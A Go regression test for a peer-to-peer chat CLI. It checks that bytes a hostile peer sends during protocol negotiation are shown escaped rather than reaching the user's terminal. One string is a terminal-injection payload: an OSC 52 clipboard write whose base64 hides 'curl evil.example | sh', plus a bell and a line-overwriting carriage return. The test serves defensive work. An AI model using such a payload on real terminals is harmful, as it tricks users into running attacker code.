package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/p2p/net/swarm"

	"github.com/parley-mesh/parley/consent"
	"github.com/parley-mesh/parley/node/nodetest"
	"github.com/parley-mesh/parley/rooms"
)

// replayStream is a stream whose first bytes, already read, are read again.
type replayStream struct {
	network.Stream
	r io.Reader
}

func (s *replayStream) Read(b []byte) (int, error) { return s.r.Read(b) }

// readToken reads one multistream-select message (a varint length, then
// the token and a newline) and returns its bytes and the token.
func readToken(r io.Reader) ([]byte, string, error) {
	var raw []byte
	var n uint64
	one := make([]byte, 1)
	for shift := uint(0); ; shift += 7 {
		if shift > 63 {
			return raw, "", errors.New("bad length")
		}
		if _, err := io.ReadFull(r, one); err != nil {
			return raw, "", err
		}
		raw = append(raw, one[0])
		n |= uint64(one[0]&0x7f) << shift
		if one[0] < 0x80 {
			break
		}
	}
	if n > 1024 {
		return raw, "", errors.New("token too long")
	}
	b := make([]byte, n)
	if _, err := io.ReadFull(r, b); err != nil {
		return raw, "", err
	}
	return append(raw, b...), strings.TrimSuffix(string(b), "\n"), nil
}

// A contact's node answers the protocol negotiation of an invite notice
// (the multistream-select line that should name /parley/invite/1) with
// bytes of its own: an OSC 52 sequence, which writes the clipboard of a
// terminal that shows it (a command for the user to paste), a bell, and a
// carriage return that writes over the line. libp2p puts that token, as
// sent, in the read's error ("protocol mismatch in lazy handshake ( TOKEN
// != … )"), and `parley room invite` printed the error as it was: every
// byte reached the user's terminal. The CLI prints an error's text with
// whatever could drive a terminal escaped, as it prints other texts.
func TestCLIPeersHandshakeBytesDoNotReachTheTerminal(t *testing.T) {
	t.Parallel()
	home := filepath.Join(t.TempDir(), "a")
	up(t, home, "--listen", loopback, "--handle", "alice")
	nt := nodetest.Start(t, 1)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	// The contact: this node asks, the other node approves.
	var addr string
	for _, a := range nt.Node(0).Host().Addrs() {
		if strings.HasPrefix(a.String(), "/ip4/127.0.0.1/tcp/") {
			addr = a.String() + "/p2p/" + nt.ID(0).String()
		}
	}
	var req cliContact
	runJSON(t, &req, "--home", home, "contact", "request", addr, "--note", "let's pair")
	nodetest.WaitFor(t, 15*time.Second, func() bool {
		p, err := peer.Decode(peerID(t, home))
		if err != nil {
			t.Fatal(err)
		}
		c, ok := nt.Node(0).Contacts().Book().Get(p, time.Now())
		return ok && c.State == consent.StatePendingIn
	}, "the other node to get the request")
	if _, err := nt.Node(0).Contacts().Approve(ctx, req.ID, 0); err != nil {
		t.Fatal(err)
	}
	nodetest.WaitFor(t, 15*time.Second, func() bool { return stateOf(t, home, nt.ID(0).String()) == "active" }, "the contact")

	// Its node answers an invite notice's negotiation with its own bytes;
	// every other stream it serves as ever.
	hostile := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\rparley: all done"
	sw := nt.Node(0).Host().Network().(*swarm.Swarm)
	serve := sw.StreamHandler()
	sw.SetStreamHandler(func(s network.Stream) {
		header, _, err := readToken(s)
		if err != nil {
			_ = s.Reset()
			return
		}
		proposal, proto, err := readToken(s)
		if err != nil {
			_ = s.Reset()
			return
		}
		if proto != string(rooms.ProtocolInvite) {
			serve(&replayStream{Stream: s, r: io.MultiReader(bytes.NewReader(append(header, proposal...)), s)})
			return
		}
		defer s.Close()
		msg := []byte(hostile + "\n")
		_, _ = s.Write(append(binary.AppendUvarint(nil, uint64(len(msg))), msg...))
	})

	out, errs, code := run(t, "--home", home, "room", "create", "plans")
	if code != 0 {
		t.Fatalf("room create: %s", errs)
	}
	room := strings.TrimSpace(out)
	out, errs, code = run(t, "--home", home, "room", "invite", room, nt.ID(0).String())
	all := out + errs
	if code != 0 || !strings.Contains(all, "lazy handshake") || !strings.Contains(all, "the invite is in the room") {
		t.Fatalf("room invite of a node that answers with garbage: exit %d\n%s", code, all)
	}
	if strings.ContainsAny(all, "\x1b\x07\r") {
		t.Fatalf("the peer's bytes reached the terminal as sent: %q", all)
	}
	if !strings.Contains(all, fmt.Sprintf(`\x%02x]52`, 0x1b)) {
		t.Fatalf("the peer's bytes are not shown escaped: %q", all)
	}
}
